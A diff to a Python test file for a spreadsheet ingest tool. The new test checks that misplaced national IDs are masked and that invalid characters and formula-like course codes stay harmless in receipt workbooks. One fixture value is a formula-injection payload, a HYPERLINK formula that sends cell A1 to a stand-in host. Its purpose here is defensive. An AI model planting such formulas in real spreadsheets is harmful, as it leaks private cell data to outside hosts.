@@ -5,15 +5,18 @@ from __future__ import annotations
 import json
 import random
 import re
+import zipfile
 from datetime import date
 from pathlib import Path
+from xml.etree import ElementTree
 
 import pytest
 from openpyxl import load_workbook
 
 from inservice.ingest import ingest_paths
+from inservice.warehouse import checks
 from inservice.warehouse.store import Warehouse
-from tests.builders import attendee, course, make_id, write_xlsx
+from tests.builders import attendee, course, make_id, write_xls, write_xlsx
 
 RNG = random.Random(7)
 IDS = [make_id(RNG) for _ in range(20)]
@@ -313,3 +316,33 @@ def test_control_characters_are_unparseable_and_never_break_a_receipt(settings) 
         assert wh.con.execute("SELECT course_code, title FROM courses").fetchall() == [("C3", course("C3")["title"])]
         stored = wh.con.execute("SELECT message_zh FROM findings WHERE rule = 'C02'").fetchall()
         assert sorted(m for (m,) in stored)[0].count("\ufffd") >= 1 and not any(control.search(m) for (m,) in stored)
+
+
+def test_values_typed_into_the_wrong_column_never_show_a_raw_id_nor_run_as_a_formula(settings) -> None:
+    """An ID in another column is quoted masked (the analysts' `findings` stays free of raw IDs, and
+    the blocking check passes); a value quoted from an .xls with U+FFFF leaves the receipt well-formed;
+    a course code written like a formula is text in the receipt workbook, never a formula."""
+    r = send(settings, [course("C1"), course('=HYPERLINK("http://x.example/?"&A1,"click")', title="研習")],
+             [attendee("C1", IDS[4], school_code=IDS[5]), attendee(IDS[6], IDS[6])])
+    raw = [IDS[5], IDS[6]]
+    text = json.dumps(r, ensure_ascii=False) + Path(r["receipt_files"][0]).read_text(encoding="utf-8")
+    assert not any(i in text for i in raw)
+    assert f"「{IDS[5][:3]}*****{IDS[5][-2:]}」" in rules_msg(r, "attendance", 2)
+    masked = f"{IDS[6][:3]}*****{IDS[6][-2:]}"
+    assert {f["course_code"] for f in r["findings"] if (f["record"], f["row"]) == ("attendance", 3)} == {masked}
+    sheet = load_workbook(r["receipt_files"][1])["檢核結果 Findings"]
+    code_cells = [row[5] for row in sheet.iter_rows(min_row=2) if str(row[5].value or "").startswith("=")]
+    assert code_cells and all(c.data_type == "s" for c in code_cells)
+    with Warehouse(settings, read_only=True) as wh:
+        passed, details = checks.raw_national_ids(wh.con)
+        assert passed, details
+    p = write_xls(settings.inbox / "T001" / "T001_201706.xls", [course("C1"), course("C2", hours="6\uffff")], [])
+    [r] = ingest_paths([p], settings, RECEIVED)
+    assert rules_of(r, "course", 3) == {("C02", "hours")} and "\uffff" not in rules_msg(r, "course", 3)
+    with zipfile.ZipFile(r["receipt_files"][1]) as z:
+        ElementTree.fromstring(z.read("xl/worksheets/sheet2.xml"))  # well-formed: Excel opens it
+
+
+def rules_msg(receipt: dict, record: str, row: int) -> str:
+    return " ".join(f["message_zh"] + f["message_en"] for f in receipt["findings"]
+                    if f["record"] == record and f["row"] == row)
